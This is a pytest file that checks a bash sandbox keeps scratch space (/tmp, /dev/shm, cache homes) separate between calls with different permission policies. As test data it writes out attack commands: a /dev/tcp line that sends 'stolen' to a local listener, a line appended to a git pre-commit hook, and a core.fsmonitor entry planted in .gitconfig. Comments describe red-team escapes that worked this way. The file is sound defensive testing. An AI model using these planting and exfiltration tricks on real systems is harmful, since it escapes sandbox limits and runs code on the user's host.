"""Scratch space is shared only within a trust domain (issue 22, item 3), on both backends.

An isolated read-only call plants a script in the private /tmp (and /dev/shm); a later call
the user approved for the host network must not find it (the script would reach a host
listener), while a call with exactly the first call's policy does (multi-step work).
"""

from __future__ import annotations

import os
import socket
import subprocess
from pathlib import Path

import pytest

from bash_sandbox import SandboxBashConfig, SandboxBashExecutor
from bash_sandbox.trust_domain import domain_key, executor_reach
from bash_seam import BashExecRequest, BashRunResult
from policies import NetworkMode, SandboxMode, SandboxPolicy
from policies.egress import EgressCredential
from tests.sandbox.conftest import ExecutorFactory

_GIT_ENV = {"GIT_AUTHOR_NAME": "t", "GIT_AUTHOR_EMAIL": "t@e", "GIT_COMMITTER_NAME": "t",
            "GIT_COMMITTER_EMAIL": "t@e"}  # fmt: skip


async def _run(
    ex: SandboxBashExecutor, command: str, workdir: Path, policy: SandboxPolicy | None = None
) -> BashRunResult:
    request = BashExecRequest(command=command, workdir=str(workdir), sandbox_policy=policy)
    return await ex.run(ex.resolve(request))


def _policy(workspace: Path, **kw: object) -> SandboxPolicy:
    return SandboxPolicy(mode=SandboxMode.READ_ONLY, workspace_root=str(workspace), **kw)  # type: ignore[arg-type]


async def test_wider_call_never_sees_what_a_narrower_call_left(
    make_executor: ExecutorFactory, workspace: Path
) -> None:
    listener = socket.socket()
    listener.bind(("127.0.0.1", 0))
    listener.listen(4)
    listener.setblocking(False)
    port = listener.getsockname()[1]
    try:
        ex = make_executor()
        narrow = _policy(workspace)
        plant = (
            f"printf 'exec 3<>/dev/tcp/127.0.0.1/{port}; echo stolen >&3\\n' > /tmp/x.sh; "
            "echo shm > /dev/shm/x; ls /tmp/x.sh /dev/shm/x"
        )
        first = await _run(ex, plant, workspace, narrow)
        assert first.exit_code == 0, first.stderr
        wide = _policy(workspace, network=NetworkMode.HOST)
        check = "bash /tmp/x.sh || echo NO-SCRIPT; cat /dev/shm/x || echo NO-SHM; ls -A /tmp"
        second = await _run(ex, check, workspace, wide)
        assert "NO-SCRIPT" in second.stdout.text and "NO-SHM" in second.stdout.text, second.stderr
        assert "x.sh" not in second.stdout.text
        # The host listener saw nothing: the planted script never ran in the wider call.
        try:
            conn, _ = listener.accept()
        except BlockingIOError:
            conn = None
        assert conn is None
        # The same policy again finds its files: ordinary multi-step work keeps working.
        third = await _run(ex, "cat /tmp/x.sh /dev/shm/x", workspace, narrow)
        assert third.exit_code == 0, third.stderr
        assert "stolen" in third.stdout.text and "shm" in third.stdout.text
    finally:
        listener.close()


async def test_a_narrower_call_after_a_wider_one_gets_its_own_scratch(
    make_executor: ExecutorFactory, workspace: Path
) -> None:
    ex = make_executor()
    wide = SandboxPolicy(mode=SandboxMode.WORKSPACE_WRITE, workspace_root=str(workspace))
    first = await _run(ex, "echo fetched > /tmp/y; echo ok > done.txt", workspace, wide)
    assert first.exit_code == 0, first.stderr
    assert (workspace / "done.txt").read_text() == "ok\n"
    second = await _run(ex, "cat /tmp/y", workspace, _policy(workspace))
    assert second.exit_code != 0 and "fetched" not in second.stdout.text
    # The executor's default policy (no per-call policy) keeps one /tmp across calls.
    assert (await _run(ex, "echo a > /tmp/z", workspace)).exit_code == 0
    assert (await _run(ex, "cat /tmp/z", workspace)).stdout.text == "a\n"


def test_domain_key_is_exact_and_order_free(tmp_path: Path) -> None:
    base = _policy(tmp_path)
    assert domain_key(base) == domain_key(_policy(tmp_path))
    wider = [
        _policy(tmp_path, network=NetworkMode.HOST),
        _policy(tmp_path, allow_domains=("example.com",)),
        _policy(tmp_path, allow_unix_sockets=("/run/x.sock",)),
        _policy(tmp_path, deny_read=()),
        _policy(tmp_path, protect_hook_chain=False),
        SandboxPolicy(mode=SandboxMode.WORKSPACE_WRITE, workspace_root=str(tmp_path)),
    ]
    assert len({domain_key(p) for p in [base, *wider]}) == len(wider) + 1
    a, b = tmp_path / "a", tmp_path / "b"
    a.mkdir()
    b.mkdir()
    ww = SandboxPolicy(mode=SandboxMode.WORKSPACE_WRITE, workspace_root=str(a))
    one = ww.model_copy(update={"writable_roots": (str(b),)})
    other = SandboxPolicy(
        mode=SandboxMode.WORKSPACE_WRITE, workspace_root=str(b), writable_roots=(str(a),)
    )
    assert domain_key(one) == domain_key(other) != domain_key(ww)

    # What an executor's own settings add is part of the shared cache homes' key; at their
    # defaults they add nothing (the homes made before keep their names).
    assert executor_reach(SandboxBashConfig()) == ""
    reaches = [
        executor_reach(SandboxBashConfig(**kw))  # type: ignore[arg-type]
        for kw in (
            {},
            {"allow_domains": ("example.test",), "credentials": (_CREDENTIAL,)},
            {"allow_private_domains": ("intranet.test",)},
            {"pin": {"intranet.test": "10.1.2.3"}},
            {"hosts_file": ""},
        )
    ]
    assert len({domain_key(ww, r) for r in reaches}) == len(reaches)
    assert domain_key(ww, "") == domain_key(ww)


_CREDENTIAL = EgressCredential(domain="example.test", source="env:NO_SUCH_SECRET", env="TOKEN")


async def test_a_hook_chain_call_and_an_unprotected_one_share_no_tmp_or_cache(
    make_executor: ExecutorFactory, workspace: Path, tmp_path: Path
) -> None:
    # A call that keeps the hook chain read-only could not edit `.husky/pre-commit`, but it
    # could leave a script in /tmp (or its cache home) that appends to it, and a later call
    # of the same executor with the protection off ran it (found by a red team: the host's
    # next `git commit` ran the planted line). The two now have separate trust domains.
    marker = tmp_path / "pwned"
    env = dict(os.environ, GIT_CONFIG_GLOBAL="/dev/null", GIT_CONFIG_NOSYSTEM="1", **_GIT_ENV)
    for args in (("init", "-q"), ("config", "core.hooksPath", ".husky")):
        subprocess.run(["git", *args], cwd=workspace, env=env, check=True, timeout=30)
    hook = workspace / ".husky" / "pre-commit"
    hook.parent.mkdir()
    hook.write_text("#!/bin/sh\nexit 0\n")
    hook.chmod(0o755)
    ex = make_executor()
    ww = SandboxPolicy(mode=SandboxMode.WORKSPACE_WRITE, workspace_root=str(workspace))
    plant = (
        f"printf 'echo touch {marker} >> .husky/pre-commit' > /tmp/build.sh && "
        'mkdir -p "$XDG_CACHE_HOME" && cp /tmp/build.sh "$XDG_CACHE_HOME/hook.sh" && '
        "echo $XDG_CACHE_HOME && "
        "(echo 'touch x' >> .husky/pre-commit || echo REFUSED)"
    )
    first = await _run(ex, plant, workspace, ww)
    assert first.exit_code == 0 and "REFUSED" in first.stdout.text, first.stderr
    open_chain = ww.model_copy(update={"protect_hook_chain": False})
    run = 'sh /tmp/build.sh || echo NO-TMP; sh "$XDG_CACHE_HOME/hook.sh" || echo NO-CACHE'
    second = await _run(ex, run + "; echo $XDG_CACHE_HOME", workspace, open_chain)
    assert "NO-TMP" in second.stdout.text and "NO-CACHE" in second.stdout.text, second.stdout
    assert first.stdout.text.split()[0] != second.stdout.text.split()[-1]  # cache homes
    # From the host: the hook is as it was, and the user's commit runs nothing planted.
    assert hook.read_text() == "#!/bin/sh\nexit 0\n"
    (workspace / "f").write_text("f\n")
    subprocess.run(["git", "add", "f"], cwd=workspace, env=env, check=True, timeout=30)
    subprocess.run(["git", "commit", "-qm", "f"], cwd=workspace, env=env, check=True, timeout=30)
    assert not marker.exists()


async def test_executors_that_reach_private_addresses_share_no_cache_home_with_others(
    make_executor: ExecutorFactory, workspace: Path
) -> None:
    # The cache homes are shared by every executor of the user, keyed on the call's policy
    # alone: code one executor left there ran in another whose settings add private
    # addresses (pins, private domains) or injected secrets (found by a red team).
    plain = make_executor(mode="workspace-write", allow_domains=("intranet.test",))
    plant = 'mkdir -p "$XDG_CACHE_HOME" && echo "echo RAN" > "$XDG_CACHE_HOME/hook.sh" && '
    plant += "echo $XDG_CACHE_HOME"
    first = await _run(plain, plant, workspace)
    assert first.exit_code == 0, first.stderr
    home = Path(first.stdout.text.strip())
    assert (home / "hook.sh").is_file()  # from the host: planted in the first home
    wide = make_executor(
        mode="workspace-write",
        allow_domains=("intranet.test",),
        allow_private_domains=("intranet.test",),
        pin={"intranet.test": "10.1.2.3"},
    )
    second = await _run(wide, 'sh "$XDG_CACHE_HOME/hook.sh" || echo NO-HOOK', workspace)
    assert "RAN" not in second.stdout.text and "NO-HOOK" in second.stdout.text, second.stdout
    # The same settings again share one home: a warm cache keeps working.
    again = make_executor(mode="workspace-write", allow_domains=("intranet.test",))
    third = await _run(again, 'sh "$XDG_CACHE_HOME/hook.sh"', workspace)
    assert third.stdout.text == "RAN\n", third.stderr


async def test_a_call_that_may_edit_a_lifted_home_name_shares_nothing_with_one_that_may_not(
    make_executor: ExecutorFactory, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    # `.gitconfig` is a home name, not in `protected_paths`: lifting it left that list (and
    # the key) as it was. A narrow call planted /tmp/build.sh and a cache script; the wider
    # call, allowed to edit ~/.gitconfig, ran them (a red team's): host git ran fsmonitor.
    home = tmp_path / "home"
    home.mkdir()
    monkeypatch.setenv("HOME", str(home))
    marker = tmp_path / "pwned"
    narrow = SandboxPolicy(mode=SandboxMode.WORKSPACE_WRITE, workspace_root=str(home))
    wide = narrow.model_copy(update={"unprotected_paths": (".gitconfig",)})
    ex = make_executor(workspace_root=str(home))
    script = f"git config -f \"$HOME/.gitconfig\" core.fsmonitor 'touch {marker}; false'"
    plant = (
        f"cat > /tmp/build.sh <<'X'\n{script}\nX\n"
        'mkdir -p "$XDG_CACHE_HOME" && cp /tmp/build.sh "$XDG_CACHE_HOME/b.sh" && '
        "(echo '[core]' >> ~/.gitconfig || echo REFUSED)"
    )
    first = await _run(ex, plant, home, narrow)
    assert "REFUSED" in first.stdout.text, first.stderr.text
    run = 'sh /tmp/build.sh || echo NO-TMP; sh "$XDG_CACHE_HOME/b.sh" || echo NO-CACHE'
    second = await _run(ex, run, home, wide)
    assert "NO-TMP" in second.stdout.text and "NO-CACHE" in second.stdout.text, second.stdout
    # The host: nothing planted in ~/.gitconfig, and host git in a repository runs nothing.
    gitconfig = home / ".gitconfig"
    assert not gitconfig.exists() or "fsmonitor" not in gitconfig.read_text()
    repo = tmp_path / "repo"
    subprocess.run(["git", "init", "-q", str(repo)], check=True, timeout=30)
    env = {"HOME": str(home), "PATH": "/usr/bin:/bin"}
    subprocess.run(
        ["git", "-C", str(repo), "status"], env=env, capture_output=True, timeout=30, check=False
    )
    assert not marker.exists()
